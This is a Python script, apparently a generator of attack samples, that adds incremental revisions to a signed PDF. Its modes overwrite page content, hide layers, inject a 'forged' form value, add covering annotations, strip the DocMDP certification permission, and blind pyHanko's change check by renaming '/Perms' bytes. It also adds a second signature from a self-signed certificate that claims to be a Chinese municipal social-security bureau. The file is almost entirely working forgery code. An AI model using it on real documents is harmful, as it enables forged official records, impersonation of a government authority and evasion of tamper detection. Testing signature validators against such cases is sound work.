"""Saves a change behind a seal: revision.py ATTACK SOURCE TARGET."""

import datetime
import io
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers

attack, source, target = sys.argv[1:]
name = generic.NameObject
genuine = open(source, "rb").read()
# pyHanko obeys the permission that forbids changes; a forger blinds it, and puts what it adds behind the genuine bytes.
blinded = genuine.replace(b"/Perms", b"/Prems").replace(b"/TransformMethod/DocMDP", b"/TransformMethod/DocMPD")
writer = IncrementalPdfFileWriter(io.BytesIO(blinded if attack == "signature" else genuine), strict=False)
page = writer.root["/Pages"]["/Kids"][0]


def stream(content):
    return writer.add_object(generic.StreamObject(stream_data=content))


def signed_by_look_alike():
    """A second signature by a certificate that says it is the bureau."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COUNTRY_NAME, "CN"), x509.NameAttribute(NameOID.ORGANIZATION_NAME, "赤峰市人力资源和社会保障局")])
    day = datetime.datetime(2019, 1, 1)
    certificate = (
        x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(day).not_valid_after(day.replace(year=2060))
        .sign(key, hashes.SHA256())
    )
    pem = serialization.Encoding.PEM
    open(target + ".key", "wb").write(key.private_bytes(pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    open(target + ".crt", "wb").write(certificate.public_bytes(pem))
    signer = signers.SimpleSigner.load(target + ".key", target + ".crt")
    fields.append_signature_field(writer, fields.SigFieldSpec("Seal2"))
    metadata = signers.PdfSignatureMetadata(field_name="Seal2", md_algorithm="sha256")
    return signers.PdfSigner(metadata, signer=signer).sign_pdf(writer).getvalue()


if attack == "text":
    page["/Contents"] = stream(b"BT ET 1 0 0 rg 0 0 600 850 re f")
elif attack == "hidden":
    group = writer.add_object(generic.DictionaryObject({name("/Type"): name("/OCG"), name("/Name"): generic.pdf_string("x")}))
    off = generic.DictionaryObject({name("/BaseState"): name("/OFF")})
    writer.root["/OCProperties"] = generic.DictionaryObject({name("/OCGs"): generic.ArrayObject([group]), name("/D"): off})
    writer.update_root()
elif attack == "form":
    field = generic.DictionaryObject({name("/FT"): name("/Tx"), name("/T"): generic.pdf_string("Name"), name("/V"): generic.pdf_string("forged")})
    writer.root["/AcroForm"]["/Fields"].append(writer.add_object(field))
    writer.root["/AcroForm"][name("/NeedAppearances")] = generic.BooleanObject(True)
    writer.update_root()
elif attack == "font":
    page["/Resources"] = generic.DictionaryObject({name("/Font"): generic.DictionaryObject({name("/F1"): stream(b"")})})
elif attack == "annotation":
    box = generic.ArrayObject(generic.FloatObject(n) for n in (0, 0, 600, 850))
    note = generic.DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/FreeText"), name("/Rect"): box, name("/Contents"): generic.pdf_string("forged")})
    page["/Annots"].append(writer.add_object(note))
elif attack == "mdp":
    signature = writer.root["/Perms"]["/DocMDP"]
    signature["/Reference"][0]["/TransformParams"][name("/P")] = generic.NumberObject(3)
    writer.update_container(signature)
    del writer.root["/Perms"]
    writer.update_root()

if attack in ("text", "font", "annotation"):
    writer.update_container(page)
if attack == "signature":
    changed = genuine + signed_by_look_alike()[len(genuine):]
elif attack == "stream":
    # A revision whose cross-reference is a stream, as hybrid and compressed files have it.
    start = len(genuine)
    table = b"999 0 obj\n<</Type/XRef/Size 1000/W[1 4 1]/Index[1 1]/Root 1 0 R/Prev 0/Length 6>>stream\n\x01" + start.to_bytes(4, "big") + b"\x00\nendstream\nendobj\n"
    changed = genuine + table + b"startxref\n%d\n%%%%EOF\n" % start
else:
    out = io.BytesIO()
    writer.write(out)
    changed = out.getvalue()
open(target, "wb").write(changed)
